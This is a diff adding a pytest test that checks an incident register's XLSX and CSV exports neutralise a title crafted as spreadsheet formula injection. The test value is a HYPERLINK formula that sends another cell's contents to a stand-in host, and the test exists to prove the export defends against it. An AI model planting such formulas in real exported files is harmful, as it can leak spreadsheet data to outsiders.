@@ -119,3 +119,22 @@ def test_a_failed_write_leaves_no_partial_file(
     with pytest.raises(ExportProblem, match="No space left"):
         export_register(register, "csv", exports / "r.csv")
     assert list(exports.iterdir()) == []
+
+
+def test_a_title_that_looks_like_a_formula_stays_text(database: Database, tmp_path: Path) -> None:
+    from tests.register.helpers import open_incident
+
+    hostile = '=HYPERLINK("http://x.example/?"&F2,"open")'
+    open_incident(database, hostile)
+    with database.unit_of_work() as session:
+        register = load_register(session, now=NOW)
+    xlsx = export_register(register, "xlsx", tmp_path / "register.xlsx")
+    sheet = load_workbook(xlsx)["Register"]
+    title_column = [c.key for c in COLUMNS].index("title") + 1
+    cell = sheet.cell(row=2, column=title_column)
+    assert cell.data_type == "s" and cell.value == hostile
+    csv_path = export_register(register, "csv", tmp_path / "register.csv")
+    with csv_path.open(newline="", encoding="utf-8") as stream:
+        rows = list(csv.DictReader(stream))
+    heading = next(c.heading for c in COLUMNS if c.key == "title")
+    assert rows[0][heading] == "'" + hostile
